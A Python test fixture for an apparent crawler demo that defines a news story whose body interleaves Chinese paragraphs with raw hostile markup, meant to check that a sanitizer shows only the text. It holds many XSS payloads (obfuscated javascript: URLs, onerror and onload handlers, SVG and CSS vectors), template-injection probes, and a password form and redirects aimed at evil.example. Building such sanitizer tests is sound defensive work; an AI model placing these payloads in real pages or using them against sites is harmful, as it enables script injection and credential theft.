"""The article whose body is full of what must never run or break a site."""

from crawler.demo.story import Case, Raw, Story, prose

_HOSTILE_FIRST = """\
<script>window.pwned = 1;</script>
<script type="text/template"><p>{{ constructor.constructor("alert(1)")() }}</p></script>
<p onclick="alert(1)" onmouseover=alert(2)>　　鼠标经过这一段也不应当发生什么。</p>
<img src="x" onerror="alert(3)"><img src=x onerror=alert`4`>
<a href="javascript:alert(5)">普通写法</a>
<a href="JaVaScRiPt:alert(6)">大小写</a>
<a href="java&#115;cript&colon;alert(7)">实体</a>
<a href="java&#9;script:alert(8)">制表符</a>
<a href=" &#1;javascript:alert(9)">控制字符</a>
<a href="vbscript:msgbox(10)">脚本</a>
<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxMSk8L3NjcmlwdD4=">数据</a>
<iframe src="javascript:alert(12)"></iframe>
<iframe srcdoc="&lt;script&gt;alert(13)&lt;/script&gt;"></iframe>
<object data="//evil.example/x.swf"><param name="a" value="b"></object>
<embed src="//evil.example/y.swf">
<form action="https://evil.example/login"><input name="p" type="password">\
<button formaction="javascript:alert(14)">登录</button></form>
<meta http-equiv="refresh" content="0;url=https://evil.example/">
<base href="https://evil.example/">
<link rel="stylesheet" href="https://evil.example/z.css">
"""

_HOSTILE_SECOND = """\
<svg onload="alert(15)"><script>alert(16)</script>\
<a xlink:href="javascript:alert(17)"><text x="0" y="9">图</text></a></svg>
<math><mtext><a href="javascript:alert(18)">式</a></mtext></math>
<div style="background:url(javascript:alert(19))">背景</div>
<div style="position:fixed;top:0;left:0;width:100%;height:100%;z-index:9">遮挡</div>
<div style="width:expression(alert(20))">表达式</div>
<style>@import url("https://evil.example/i.css");
p{background:url(//evil.example/b)}</style>
<!-- more -->
<!--[if IE]><script>alert(21)</script><![endif]-->
<!--><img src=x onerror=alert(22)>-->
<video src="//evil.example/v.mp4" onloadstart="alert(23)" autoplay></video>
<img src="//evil.example/t.gif" srcset="javascript:alert(24) 2x" \
style="list-style:url(//evil.example/l)">
"""

_HOSTILE_TEXT = """\
<p>　　模板写法：{{ 7*7 }}，{% raw %}，{# x #}，{% endraw %}，<%= 7*7 %>，${7*7}。</p>
<p>
```
process.exit(1)
```
~~~ js
~~~
</p>
<p>　　段末符号 ]]&gt; 与 ]]> ，对象替换符\ufffc，零宽\u200b空格，\
\u2028分行，\u00ad软连字。</p>
"""

HOSTILE = Story(
    id="nkqtuhy2279450",
    path="stock/observe",
    title="页面体检：一篇带着各种脚本的稿件",
    created="2026-11-20 11:48:59",
    feeds=(2671,),
    source="读者来稿",
    note=Case.HOSTILE,
    body=(
        *prose(
            """
            这是稿件的第一段，由编辑在后台粘贴时带进了来历不明的代码，读者只应当看
            到文字。
            """
        ),
        Raw(_HOSTILE_FIRST),
        *prose(
            """
            这是稿件的第二段：公司当日成交额为7.31亿元，换手率2.6%，与前一个交易日
            大致持平。
            """
        ),
        Raw(_HOSTILE_SECOND),
        *prose(
            """
            这是稿件的第三段，夹在两段样式之间，仍然要完整保留，一个字也不能少。
            """
        ),
        Raw(_HOSTILE_TEXT),
        *prose(
            """
            这是稿件的最后一段，到此为止没有任何东西被执行。
            """
        ),
    ),
)
"""Real paragraphs, with hostile markup between them."""
